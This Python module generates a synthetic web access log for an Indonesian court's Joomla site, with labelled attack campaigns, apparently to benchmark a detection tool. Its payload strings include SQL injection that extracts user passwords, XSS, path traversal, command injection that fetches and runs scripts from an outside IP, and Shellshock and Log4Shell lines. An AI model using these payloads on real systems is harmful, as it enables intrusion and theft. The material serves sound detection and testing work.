# ruff: noqa: E501, S108, S311 - sample data: long user agents and payloads, a fixed seed, paths that are log text
"""A court website's access log, generated, with labelled attack campaigns: for the demo and the benchmark.

The site is a Joomla court site (berita, jadwal sidang, SIPP, e-Court, putusan PDFs). Human visitors come
from Indonesian networks on an Indonesian daily rhythm (WIB: busy 08-11 and 13-15, quiet at night), read a
few pages and fetch their static files; good crawlers (Googlebot from Google's range, Bingbot), grey
ones (AhrefsBot, SemrushBot, python-requests) and Jaga's own probe come and go; staff log in a few times a
day. Mixed in are attack campaigns of every detection family, each from its own addresses, some slow or
spread over a subnet. Every line is labelled with its campaign's family (or none) in a CSV beside the log:
``line,family,campaign``.

Deterministic for a given ``seed``. ``log_generate`` writes about ``lines`` lines in time order.
"""

from __future__ import annotations

import csv
import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path

WIB = timezone(timedelta(hours=7))
HOUR_WEIGHTS = (1, 1, 1, 1, 2, 3, 5, 8, 12, 14, 14, 12, 9, 11, 12, 10, 8, 6, 5, 5, 4, 3, 2, 1)
PAGES = (
    [
        "/",
        "/index.php",
        "/jadwal-sidang",
        "/sipp",
        "/e-court",
        "/layanan-publik",
        "/profil",
        "/kontak",
        "/zona-integritas",
    ]
    + [f"/index.php/berita/{i}-kegiatan-pengadilan-{i}" for i in range(1, 400)]
    + [f"/index.php?option=com_content&view=article&id={i}&Itemid=10{i % 9}" for i in range(1, 300)]
    + [f"/index.php/layanan/{name}" for name in ("pidana", "perdata", "posbakum", "prodeo", "ptsp", "biaya")]
)
DOWNLOADS = [f"/images/dokumen/putusan-{i}-pdt-g-2026.pdf" for i in range(1, 200)]
STATIC = [
    "/templates/pn/css/template.css",
    "/media/jui/js/jquery.min.js",
    "/templates/pn/js/template.js",
    "/images/logo-pn.png",
    "/images/banner-zi.jpg",
    "/favicon.ico",
    "/media/system/js/core.js",
]
HUMAN_AGENTS = (
    "Mozilla/5.0 (Linux; Android 13; SM-A145F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; 2312DRAABG) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
)
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
BINGBOT = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
GREY_AGENTS = (
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "python-requests/2.31.0",
)
# Indonesian access networks (Telkomsel, Indihome, XL, Indosat...) for the human visitors.
ID_PREFIXES = ("36.68", "36.72", "114.124", "180.248", "182.1", "110.138", "125.160", "139.194", "103.121", "112.215")
REFERRERS = ("-", "-", "-", "https://www.google.com/", "https://www.google.co.id/", "https://m.facebook.com/", "-")


@dataclass(order=True)
class Line:
    at: datetime
    text: str = field(compare=False)
    family: str = field(default="", compare=False)
    campaign: str = field(default="", compare=False)


@dataclass
class Generated:
    log: Path
    labels: Path
    lines: int
    campaigns: dict[str, str]  # campaign -> family
    families: dict[str, int]  # family -> labelled lines


def _combined(
    client: str, at: datetime, method: str, target: str, status: int, size: int, referrer: str, agent: str
) -> str:
    stamp = at.strftime("%d/%b/%Y:%H:%M:%S +0700")
    return f'{client} - - [{stamp}] "{method} {target} HTTP/1.1" {status} {size} "{referrer}" "{agent}"'


class _Maker:
    def __init__(self, start: datetime, days: int, rng: random.Random) -> None:
        self.start, self.days, self.rng = start, days, rng
        self.out: list[Line] = []
        self.campaigns: dict[str, str] = {}

    def moment(self) -> datetime:
        day = self.rng.randrange(self.days)
        hour = self.rng.choices(range(24), weights=HOUR_WEIGHTS)[0]
        return self.start + timedelta(days=day, hours=hour, seconds=self.rng.randrange(3600))

    def add(self, at: datetime, text: str, family: str = "", campaign: str = "") -> None:
        self.out.append(Line(at, text, family, campaign))

    def human_ip(self) -> str:
        return f"{self.rng.choice(ID_PREFIXES)}.{self.rng.randrange(256)}.{self.rng.randrange(1, 255)}"

    # --- the ordinary traffic -------------------------------------------------------------------------

    def visit(self) -> None:
        rng = self.rng
        client, agent, at = self.human_ip(), rng.choice(HUMAN_AGENTS), self.moment()
        referrer = rng.choice(REFERRERS)
        for page_number in range(rng.choice((1, 1, 2, 2, 3, 4, 6))):
            if rng.random() < 0.08:
                target = rng.choice(DOWNLOADS)
                self.add(at, _combined(client, at, "GET", target, 200, rng.randrange(80_000, 900_000), referrer, agent))
            else:
                target = rng.choice(PAGES)
                if rng.random() < 0.03:  # an old link
                    target = f"/index.php/arsip/{rng.randrange(1000)}-berita-lama"
                    self.add(at, _combined(client, at, "GET", target, 404, 4200, referrer, agent))
                else:
                    self.add(
                        at, _combined(client, at, "GET", target, 200, rng.randrange(9_000, 60_000), referrer, agent)
                    )
                    if page_number == 0 or rng.random() < 0.3:
                        for asset in rng.sample(STATIC, rng.randrange(2, 6)):
                            lag = at + timedelta(milliseconds=rng.randrange(50, 900))
                            self.add(
                                lag,
                                _combined(client, lag, "GET", asset, 200, rng.randrange(800, 90_000), target, agent),
                            )
            referrer = "https://pn-contoh.go.id" + target
            at += timedelta(seconds=rng.randrange(5, 180))
        if rng.random() < 0.02:  # a search, with an apostrophe now and then
            query = rng.choice(("jadwal+sidang", "putusan+perdata", "biaya+perkara", "pos+bakum", "d'arcy+v.+negara"))
            target = f"/index.php?option=com_search&searchword={query}"
            self.add(at, _combined(client, at, "GET", target, 200, 14000, referrer, agent))

    def crawlers(self, total: int) -> None:
        rng = self.rng
        for _ in range(total):
            at = self.start + timedelta(seconds=rng.randrange(self.days * 86400))
            kind = rng.random()
            if kind < 0.5:
                client, agent = f"66.249.66.{rng.randrange(1, 200)}", GOOGLEBOT
            elif kind < 0.7:
                client, agent = f"157.55.39.{rng.randrange(1, 200)}", BINGBOT
            else:
                client, agent = f"5.255.{rng.randrange(250)}.{rng.randrange(1, 255)}", rng.choice(GREY_AGENTS)
            target = rng.choice(PAGES + DOWNLOADS + ["/robots.txt", "/sitemap.xml"])
            self.add(at, _combined(client, at, "GET", target, 200, rng.randrange(1000, 50000), "-", agent))

    def staff_and_probe(self) -> None:
        rng = self.rng
        for day in range(self.days):
            for _ in range(rng.randrange(2, 5)):  # staff log in from the office
                at = self.start + timedelta(days=day, hours=rng.randrange(8, 16), minutes=rng.randrange(60))
                agent = HUMAN_AGENTS[2]
                self.add(at, _combined("103.10.64.21", at, "GET", "/administrator/", 200, 5000, "-", agent))
                at += timedelta(seconds=20)
                self.add(at, _combined("103.10.64.21", at, "POST", "/administrator/index.php", 303, 0, "-", agent))
            for minute in range(0, 1440, 5):  # Jaga's own probe
                at = self.start + timedelta(days=day, minutes=minute)
                self.add(at, _combined("103.10.64.5", at, "GET", "/", 200, 30000, "-", "Jaga/0.1 (+monitoring)"))

    # --- the attacks ----------------------------------------------------------------------------------

    def _attacker(self, network: str = "") -> str:
        rng = self.rng
        if network:
            return f"{network}.{rng.randrange(1, 255)}"
        if rng.random() < 0.1:
            return f"2a0{rng.randrange(1, 9)}:{rng.randrange(0x1000, 0xFFFF):x}:{rng.randrange(0x1000, 0xFFFF):x}::{rng.randrange(1, 0xFFFF):x}"
        first = rng.choice((45, 185, 193, 194, 89, 91, 104, 146, 162, 167, 178, 20, 34, 52))
        return f"{first}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"

    def campaign(
        self,
        family: str,
        requests: list[tuple[str, str, int]],
        *,
        agent: str,
        every: float,
        clients: list[str] | None = None,
        jitter: float = 0.3,
    ) -> None:
        """One campaign: ``requests`` (method, target, status) in order, ``every`` seconds apart."""
        name = f"{family}-{sum(1 for f in self.campaigns.values() if f == family) + 1}"
        self.campaigns[name] = family
        clients = clients or [self._attacker()]
        at = self.moment()
        for index, (method, target, status) in enumerate(requests):
            client = clients[index % len(clients)]
            self.add(
                at,
                _combined(client, at, method, target, status, 250 if status >= 400 else 9000, "-", agent),
                family,
                name,
            )
            at += timedelta(seconds=every * (1 + self.rng.uniform(-jitter, jitter)))

    def attacks(self, scale: int) -> None:
        rng = self.rng
        browser = HUMAN_AGENTS[2]
        for _ in range(scale):
            payloads = [
                "1%27%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(username,0x3a,password)%20FROM%20jos_users--%20-",
                "1%20AND%20SLEEP(5)",
                "1%27%20AND%20%271%27=%271",
                "-1%20OR%201=1",
                "1;%20DROP%20TABLE%20users",
                "1%27%20AND%20extractvalue(1,concat(0x7e,version()))--%20",
                "1%27))%20OR%20BENCHMARK(5000000,MD5(1))%23",
            ]
            reqs = [
                ("GET", f"/index.php?option=com_content&view=article&id={rng.choice(payloads)}", 500)
                for _ in range(rng.randrange(15, 60))
            ]
            self.campaign(
                "sqli", reqs, agent=rng.choice(("sqlmap/1.7.2#stable (https://sqlmap.org)", browser)), every=1.0
            )
            xss = [
                "%3Cscript%3Ealert(1)%3C/script%3E",
                "%22%3E%3Csvg/onload=alert(document.domain)%3E",
                "javascript:alert(1)",
                "%253Cimg%2520src%253Dx%2520onerror%253Dprompt(1)%253E",
            ]
            self.campaign(
                "xss",
                [
                    ("GET", f"/index.php?option=com_search&searchword={rng.choice(xss)}", 200)
                    for _ in range(rng.randrange(8, 30))
                ],
                agent=browser,
                every=2.0,
            )
            trav = [
                "/index.php?option=com_jce&file=../../../../etc/passwd",
                "/index.php?view=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
                "/index.php?page=php://filter/convert.base64-encode/resource=configuration.php",
                "/?file=http://evil.example/shell.txt?",
                "/images/..%2f..%2f..%2fwindows/win.ini",
            ]
            self.campaign(
                "traversal",
                [("GET", rng.choice(trav), 404) for _ in range(rng.randrange(6, 25))],
                agent=browser,
                every=3.0,
            )
            cmd = [
                "/cgi-bin/test.cgi?x=;wget%20http://45.9.1.2/x.sh%20-O-|sh",
                "/index.php?cmd=$(id)",
                "/?q=%60cat%20/etc/passwd%60",
            ]
            self.campaign(
                "command",
                [("GET", rng.choice(cmd), 404) for _ in range(rng.randrange(4, 12))],
                agent=browser,
                every=4.0,
            )
            self.campaign(
                "command",
                [("GET", "/cgi-bin/status", 404)] * 3,
                agent="() { :; }; /bin/bash -c 'wget http://45.9.1.2/b -O /tmp/b'",
                every=5.0,
            )
            exploits = [
                ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
                ("GET", "/api/index.php/v1/config/application?public=true", 200),
                (
                    "GET",
                    "/index.php?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo",
                    200,
                ),
                (
                    "GET",
                    "/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(1,concat(0x3e,user()),0)",
                    500,
                ),
                ("GET", "/_ignition/execute-solution", 404),
            ]
            self.campaign("exploit", rng.sample(exploits, 3), agent="Go-http-client/1.1", every=6.0)
            self.campaign(
                "exploit",
                [("GET", "/", 200)] * 2,
                agent="${jndi:ldap://45.9.1.2:1389/Basic/Command/Base64/d2dldA==}",
                every=30.0,
            )
            sens = [
                "/.env",
                "/.git/config",
                "/configuration.php.bak",
                "/configuration.php~",
                "/backup.zip",
                "/db.sql",
                "/phpinfo.php",
                "/.htpasswd",
                "/wp-config.php.save",
                "/site.tar.gz",
                "/.aws/credentials",
                "/info.php",
                "/.DS_Store",
                "/database.sql.gz",
            ]
            self.campaign(
                "sensitive", [("GET", p, 404) for p in rng.sample(sens, rng.randrange(5, 14))], agent=browser, every=1.5
            )
            admin = [
                "/phpmyadmin/",
                "/pma/",
                "/phpMyAdmin-5.2.1/index.php",
                "/adminer.php",
                "/mysql/admin/",
                "/cpanel",
                "/manager/html",
                "/wp-login.php",
                "/wp-admin/",
                "/xmlrpc.php",
            ]
            self.campaign(
                "admin", [("GET", p, 404) for p in rng.sample(admin, rng.randrange(3, 9))], agent=browser, every=2.0
            )
            shells = [
                "/images/shell.php",
                "/wso.php",
                "/alfa.php",
                "/tmp/up.php",
                "/images/stories/c99.php",
                "/media/indoxploit.php",
                "/cache/x.php",
            ]
            self.campaign(
                "webshell", [("GET", p, 404) for p in rng.sample(shells, rng.randrange(2, 6))], agent=browser, every=2.0
            )
            scanner = rng.choice(
                (
                    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:007070)",
                    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
                    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
                )
            )
            self.campaign(
                "scanner",
                [("GET", rng.choice(PAGES), 200) for _ in range(rng.randrange(5, 30))],
                agent=scanner,
                every=0.5,
            )
            junk = [
                ("\\x16\\x03\\x01\\x00\\xf7\\x01\\x00\\x00\\xf3\\x03\\x03", 400),
                ("CONNECT www.google.com:443", 400),
                ("GET http://azenv.net/ HTTP/1.1", 400),
            ]
            client = self._attacker()
            name = f"not_http-{sum(1 for f in self.campaigns.values() if f == 'not_http') + 1}"
            self.campaigns[name] = "not_http"
            at = self.moment()
            for request, status in rng.sample(junk, 2):
                stamp = at.strftime("%d/%b/%Y:%H:%M:%S +0700")
                self.add(at, f'{client} - - [{stamp}] "{request}" {status} 150 "-" "-"', "not_http", name)
                at += timedelta(seconds=2)
            self.campaign(
                "probing",
                [
                    (
                        "GET",
                        f"/{rng.choice(('admin', 'old', 'test', 'new', 'dev', 'bak'))}{i}/{rng.randrange(10**6)}",
                        404,
                    )
                    for i in range(rng.randrange(30, 150))
                ],
                agent=browser,
                every=0.2,
            )
            self.campaign(
                "crawl",
                [("GET", rng.choice(PAGES), 200) for _ in range(rng.randrange(80, 300))],
                agent=rng.choice((browser, GOOGLEBOT, "Scrapy/2.11.0 (+https://scrapy.org)")),
                every=0.25,
            )
            self.campaign(
                "brute_force",
                [("POST", "/administrator/index.php", 303)] * rng.randrange(30, 200),
                agent=browser,
                every=0.7,
            )
            self.campaign(
                "flood",
                [("GET", f"/?{rng.randrange(10**9, 10**10)}", 200) for _ in range(rng.randrange(200, 900))],
                agent=browser,
                every=0.05,
            )
        # The slow and the spread-out ones, which per-second buckets miss.
        self.campaign(
            "brute_force", [("POST", "/administrator/index.php", 303)] * 160, agent=browser, every=90, jitter=0.2
        )
        subnet = f"185.{rng.randrange(256)}.{rng.randrange(256)}"
        clients = [f"{subnet}.{i}" for i in rng.sample(range(2, 250), 20)]
        self.campaign(
            "brute_force", [("POST", "/administrator/index.php", 303)] * 80, agent=browser, every=22, clients=clients
        )
        spread = [self._attacker() for _ in range(30)]
        self.campaign(
            "brute_force", [("POST", "/administrator/index.php", 303)] * 90, agent=browser, every=13, clients=spread
        )
        self.campaign(
            "probing",
            [("GET", f"/backup{i}/{rng.randrange(10**6)}.php", 404) for i in range(100)],
            agent=browser,
            every=120,
            jitter=0.2,
        )
        self.campaign("flood", [("GET", "/", 200)] * 1800, agent=browser, every=0.066)


def log_generate(
    path: Path, *, lines: int = 1_000_000, days: int = 7, seed: int = 9, start: datetime | None = None
) -> Generated:
    """Write about ``lines`` lines to ``path`` and their labels to ``path`` + ``.labels.csv``."""
    rng = random.Random(seed)
    start = start or datetime(2026, 11, 2, tzinfo=WIB)
    maker = _Maker(start, days, rng)
    maker.staff_and_probe()
    maker.attacks(scale=max(1, lines // 40_000))
    maker.crawlers(total=lines // 12)
    while len(maker.out) < lines:
        maker.visit()
    maker.out.sort()
    labels = path.with_name(path.name + ".labels.csv")
    families: dict[str, int] = {}
    with path.open("w", encoding="utf-8") as log, labels.open("w", newline="", encoding="utf-8") as side:
        writer = csv.writer(side)
        writer.writerow(("line", "family", "campaign"))
        for number, line in enumerate(maker.out, start=1):
            log.write(line.text + "\n")
            if line.family:
                writer.writerow((number, line.family, line.campaign))
                families[line.family] = families.get(line.family, 0) + 1
    return Generated(log=path, labels=labels, lines=len(maker.out), campaigns=maker.campaigns, families=families)


def labels_read(path: Path) -> Iterator[tuple[int, str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        for row in csv.DictReader(handle):
            yield int(row["line"]), row["family"], row["campaign"]


__all__ = ["Generated", "labels_read", "log_generate"]
